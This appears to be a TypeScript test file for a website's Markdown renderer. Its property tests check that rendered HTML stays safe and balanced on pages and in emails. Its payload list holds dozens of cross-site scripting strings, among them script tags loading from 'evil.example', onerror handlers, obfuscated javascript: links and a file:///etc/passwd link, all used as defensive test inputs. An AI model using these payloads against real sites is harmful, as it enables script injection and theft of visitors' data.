import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { markdownText } from '#server/catalogue/article/article.input';
import { itemsOfMarkdown } from '#server/documents/markdown-text';
import { parseMarkdown, renderDraft, renderForEmail, renderMarkdown } from '#server/values/markdown';

/** All tags and attributes that rendered Markdown may have. */
const harmless = [
  '</?(p|h[2-6]|ul|ol|li|em|strong|del|code|pre|blockquote|table|thead|tbody|tr|td|th|sup|section|a|figure|figcaption)>',
  '<(br|hr) ?/>',
  '<h2 id="footnote-label" class="sr-only">',
  '<section data-footnotes="" class="footnotes">',
  '<ol start="\\d+">',
  '<(td|th) align="(left|right|center)">',
  '<code class="language-[^"]*">',
  '<li id="user-content-fn-[^"]*">',
  '<input type="checkbox" disabled="" (checked="" )?/>',
  '<img src="(https?://[^"]*|[^":]*)" alt="[^"]*"( title="[^"]*")?( srcset="[^":]*" sizes="[^"]*")?( width="\\d+" height="\\d+")? loading="lazy" decoding="async" />',
  '<a href="(https?://[^"]*|mailto:[^"]*|[^":]*)"( title="[^"]*")?( id="[^"]*")?( data-footnote-[a-z]+="")?( aria-[a-z]+="[^"]*")?( class="[^"]*")?>',
];
const harmlessTag = new RegExp(harmless.join('|'), 'g');

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "//evil.example"</style>',
  '<math><mtext><img src onerror=alert(1)></mtext></math>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '</p></div></main><form action=//evil.example>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![" onerror="alert(1)](/x.png)',
  '![x](/x.png" onerror="alert(1))',
  '[x](/a "\\" onmouseover=\\"alert(1)")',
  '[x](/a \'" autofocus onfocus=alert(1) x="\')',
  '[" onclick="alert(1)](https://example.com)',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |',
  'x[^1]\n\n[^1]: <script>alert(1)</script>',
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
  'https://example.com/"onmouseover="alert(1)',
  'www.example.com/<script>alert(1)</script>',
  'a@example.com"onclick=alert(1)',
  '* [ ] <input autofocus onfocus=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '~~<b onclick=alert(1)>~~',
  '![x](/uploads/1-a-10x10.jpg "<script>alert(1)</script>")',
  '![x](/uploads/1-a-10x10.jpg "\\" onload=\\"alert(1)")',
  '![x](</uploads/1-a-10x10.jpg" onload="alert(1)> "x")',
  '[![x](/a.png "x")](javascript:alert(1))',
];

/** What may stand anywhere in a text, in any order. */
const fragments = [
  ...'a \n*_`\\"\'<>&![]()',
  ...['\n\n', '**', '~~', '&lt;', '](', '![', '# ', '- ', '1. ', '> ', '    ', '```\n', '| ', '| - |', '---', '[x]: '],
  ...['https://a.example/', 'javascript:', '\u202e', '😀', '![a](/uploads/1-a-10x10.jpg "b")', '![a](/b.png)'],
  ...['(/c "d")', '/uploads/2-b-900x60.png', '<img src=x>', '</figure>'],
];
const anyText = fc.array(fc.constantFrom(...fragments), { maxLength: 40 }).map((parts) => parts.join(''));

/** The tags that are open at the end, and a closing one that closes none. */
function unbalancedIn(html: string): string[] {
  const open: string[] = [];
  for (const [tag, slash, name = ''] of html.matchAll(/<(\/?)([a-z0-9]+)[^>]*?(?:\/>|>)/g)) {
    if (tag.endsWith('/>')) continue;
    if (!slash) open.push(name);
    else if (open.pop() !== name) return [tag];
  }
  return open;
}

describe('Markdown', () => {
  test.each(payloads)('renders %j as harmless text', (payload) => {
    for (const markdown of [payload, `A line before.\n\n${payload}\n\nA line after.`, `> - ${payload}`]) {
      const html = renderMarkdown(markdown);
      expect(html.replace(harmlessTag, '')).not.toMatch(/[<>]/);
    }
  });

  test('renders links, pictures, lists, tables and emphasis', () => {
    const html = renderMarkdown(
      [
        '**Bring** [water](https://example.com/water) and write to <office@example.com>.',
        '- one\n- two',
        '| Hour | Stop |\n| --- | --- |\n| 07:00 | Giza |',
        '![The river](/uploads/river.webp)',
      ].join('\n\n'),
    );
    expect(html).toContain('<strong>Bring</strong> <a href="https://example.com/water">water</a>');
    expect(html).toContain('<a href="mailto:office@example.com">');
    expect(html).toContain('<li>two</li>');
    expect(html).toContain('<td>07:00</td>');
    expect(html).toContain('<img src="/uploads/river.webp" alt="The river" loading="lazy" decoding="async" />');
  });

  test('renders any text as harmless and balanced HTML, on a page and in an email', () => {
    fc.assert(
      fc.property(anyText, (markdown) => {
        const html = renderDraft(markdown);
        expect(html.replace(harmlessTag, '')).not.toMatch(/[<>]/);
        expect(unbalancedIn(html)).toEqual([]);
        const mail = renderForEmail(markdown, 'https://a.example', {});
        expect(unbalancedIn(mail)).toEqual([]);
        expect(mail).not.toMatch(/srcset|<fig|src="\/|="javascript/);
      }),
      { numRuns: 1000 },
    );
  });

  test('makes links of addresses that say how they are opened, and of email addresses', () => {
    const links = (markdown: string) =>
      [...renderDraft(markdown).matchAll(/<a href="([^"]*)">/g)].map(([, address]) => address);
    expect(links('See https://a.example/b_c?d=(e), http://a.example and office@a.example.')).toEqual([
      'https://a.example/b_c?d=(e)',
      'http://a.example',
      'mailto:office@a.example',
    ]);
    // To read on from each of these would cost half a second in a long text.
    expect(links('//a.example/b 😀//a.example/b ftp://a.example/b guide.pdf')).toEqual([]);
    expect(links('https://a.example/\\[b')).toEqual(['https://a.example/']);
  });

  test('shows a table of more cells than any article has as it was typed', () => {
    const table = (columns: number, rows: number) =>
      [`${'|a'.repeat(columns)}|`, `${'|-'.repeat(columns)}|`, ...Array<string>(rows).fill('|b|')].join('\n');
    expect(renderDraft(table(8, 200))).toContain('<td>b</td>');
    expect(renderDraft(table(100, 200))).not.toContain('<table>');
    expect(renderDraft(`> ${table(100, 200).replaceAll('\n', '\n> ')}`)).not.toContain('<table>');
    expect(renderDraft(`- ${table(100, 200).replaceAll('\n', '\n  ')}`)).not.toContain('<table>');
  });

  test('renders lists in lists, five deep', () => {
    const deep = Array.from({ length: 5 }, (_, depth) => `${'  '.repeat(depth)}- depth ${depth}`).join('\n');
    expect(renderDraft(deep)).toContain('depth 4');
  });

  test('rejects a text of more than 30,000 characters', () => {
    expect(markdownText.safeParse({ text: 'a'.repeat(30_001) }).success).toBe(false);
  });

  test('keeps lines as they were typed, on a page and in an email', () => {
    const lines = 'Meet at the pier\n**by the flag**';
    expect(renderMarkdown(lines)).toBe('<p>Meet at the pier<br />\n<strong>by the flag</strong></p>');
    expect(renderForEmail(lines, 'https://a.example', {})).toContain('pier<br />');
  });

  const upload = '/uploads/1795247157540-1f9a03cc-900x600';

  test('gives pictures their widths and their size, and loads them late', () => {
    const widths = `${upload}-400w.webp 400w, ${upload}-800w.webp 800w, ${upload}-900w.webp 900w`;
    expect(renderDraft(`See ![A *boat*](${upload}.jpg "The Nile") there`)).toBe(
      `<p>See <img src="${upload}.jpg" alt="A boat" title="The Nile" srcset="${widths}" sizes="(min-width: 42rem) 42rem, 100vw" width="900" height="600" loading="lazy" decoding="async" /> there</p>`,
    );
    expect(renderDraft('![Aswan](/posters/aswan-dusk.svg)')).toBe(
      '<p><img src="/posters/aswan-dusk.svg" alt="Aswan" width="800" height="1000" loading="lazy" decoding="async" /></p>',
    );
  });

  test('makes a figure of a picture with a title that stands alone, also as a link or in a list', () => {
    const picture = '![A boat](https://a.example/b.jpg "The *Nile* & <us>")';
    const img = '<img src="https://a.example/b.jpg" alt="A boat" loading="lazy" decoding="async" />';
    const caption = '<figcaption>The *Nile* &amp; &lt;us&gt;</figcaption></figure>';
    expect(renderDraft(`Before\n\n${picture}\n\nAfter`)).toBe(`<p>Before</p><figure>${img}${caption}<p>After</p>`);
    expect(renderDraft(`[${picture}](/tours)`)).toBe(`<figure><a href="/tours">${img}</a>${caption}`);
    expect(renderDraft(`- ${picture}`)).toBe(`<ul><li><figure>${img}${caption}</li></ul>`);
    expect(renderDraft(`${picture}\n${picture}`)).not.toContain('figure');
  });

  test('paints pictures for an email, with their words and captions', () => {
    const attributes = { figure: { style: 'margin:0' }, figcaption: { class: 'quiet' } };
    const render = (markdown: string) => renderForEmail(markdown, 'https://a.example', attributes);
    const mailed = `/mail/posters/${upload.slice('/uploads/'.length)}`;
    expect(render(`![A boat](${upload}.png "The Nile")`)).toBe(
      `<div style="margin:0"><img src="https://a.example${mailed}.png" alt="A boat" width="536" /><div class="quiet">The Nile</div></div>\n`,
    );
    expect(render('![Aswan](/posters/aswan-dusk.svg)')).toContain(
      'src="https://a.example/mail/posters/aswan-dusk.jpg"',
    );
    expect(render('![Small](/uploads/1-a-300x200.jpg)')).toContain('width="300"');
    expect(render('![Elsewhere](https://b.example/c.jpg)')).toContain(
      '<img src="https://b.example/c.jpg" alt="Elsewhere" />',
    );
    expect(render('![A *drawing*](https://b.example/c.svg)')).toBe('<p>A drawing</p>\n');
  });

  test('says the caption of a picture in a file, or else what it shows', () => {
    const items = (markdown: string) => itemsOfMarkdown(parseMarkdown(markdown));
    expect(items(`![A boat](${upload}.jpg "The Nile")`)).toEqual([{ style: 'body', runs: [{ text: 'The Nile' }] }]);
    expect(items(`![A boat](${upload}.jpg)`)).toEqual([{ style: 'body', runs: [{ text: 'A boat' }] }]);
  });

  test('starts headings at h2', () => {
    const html = renderMarkdown('# Morning\n\nNoon\n====\n\n## Evening\n\n`<h1>` is a tag');
    expect(html).not.toMatch(/<\/?h1/);
    expect(html.match(/<h2>/g)).toHaveLength(3);
    expect(html).toContain('&lt;h1&gt;');
  });
});
